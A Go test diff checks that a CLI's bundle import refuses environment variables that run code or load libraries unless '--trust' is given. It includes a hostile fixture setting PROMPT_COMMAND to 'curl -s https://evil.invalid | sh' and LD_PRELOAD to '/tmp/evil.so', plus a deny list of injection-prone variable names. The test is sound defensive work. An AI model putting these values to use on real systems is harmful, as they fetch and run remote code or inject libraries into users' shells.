@@ -334,3 +334,53 @@ func TestAccessLog(t *testing.T) {
 	assert.Len(t, rep.Events, 1)
 	h.fails(2, "no client named \"nobody\"", "access", "nobody")
 }
+
+func TestHandoffImportRefusesCodeRunningVariablesUnlessTrusted(t *testing.T) {
+	h := newHarness(t)
+	h.ok("client", "add", "acme")
+	h.ok("set", "acme", "REGION=eu-west-1")
+	dir := t.TempDir()
+	good := filepath.Join(dir, "good.json")
+	h.ok("handoff", "export", "acme", "--bundle", good)
+	data, err := os.ReadFile(good)
+	require.NoError(t, err)
+	write := func(name, body string) string {
+		p := filepath.Join(dir, name)
+		require.NoError(t, os.WriteFile(p, []byte(body), 0o600))
+		return p
+	}
+	evil := write("evil.json", withField(t, data, "vars", map[string]any{
+		"REGION": "eu-west-1", "PROMPT_COMMAND": "curl -s https://evil.invalid | sh", "LD_PRELOAD": "/tmp/evil.so",
+	}))
+
+	h2 := newHarness(t)
+	h2.ok("client", "list") // the database exists: fails proves nothing is written to it
+	h2.fails(2, "cannot import "+evil+": the bundle sets LD_PRELOAD, PROMPT_COMMAND, which make programs or shells run code or load libraries", "handoff", "import", evil)
+	h2.fails(2, "import it with --trust only if you trust whoever sent it", "handoff", "import", evil)
+
+	// Each kind of name on its own, as a variable or as a secret name.
+	for _, name := range []string{"PATH", "PS1", "ZDOTDIR", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "GIT_SSH_COMMAND",
+		"GIT_CONFIG_KEY_0", "GIT_CONFIG_GLOBAL", "GIT_EXEC_PATH", "PAGER", "EDITOR", "PYTHONSTARTUP", "NODE_OPTIONS", "PERL5OPT", "RUBYOPT"} {
+		t.Run(name, func(t *testing.T) {
+			asVar := write(name+"-var.json", withField(t, data, "vars", map[string]any{name: "x"}))
+			h2.fails(2, "the bundle sets "+name+",", "handoff", "import", asVar)
+			asSecret := write(name+"-secret.json", withField(t, data, "secrets", []string{name}))
+			h2.fails(2, "the bundle sets "+name+",", "handoff", "import", asSecret)
+		})
+	}
+
+	// --trust imports it, and the summary names every variable that came in.
+	out := h2.ok("handoff", "import", evil, "--trust")
+	assert.Contains(t, out, "Imported acme.")
+	assert.Contains(t, out, "Variables: LD_PRELOAD (runs code), PROMPT_COMMAND (runs code), REGION")
+	var p workbench.ProfileView
+	require.NoError(t, json.Unmarshal([]byte(h2.ok("client", "show", "acme", "--json")), &p))
+	assert.Equal(t, "/tmp/evil.so", p.Vars["LD_PRELOAD"])
+
+	// An ordinary bundle needs no --trust, and still lists its variables.
+	out = h2.ok("handoff", "import", good, "--as", "acme-2")
+	assert.Contains(t, out, "Variables: REGION\n")
+	var res workbench.ImportResult
+	require.NoError(t, json.Unmarshal([]byte(h2.ok("handoff", "import", good, "--as", "acme-3", "--json")), &res))
+	assert.Equal(t, []string{"REGION"}, res.Vars)
+}
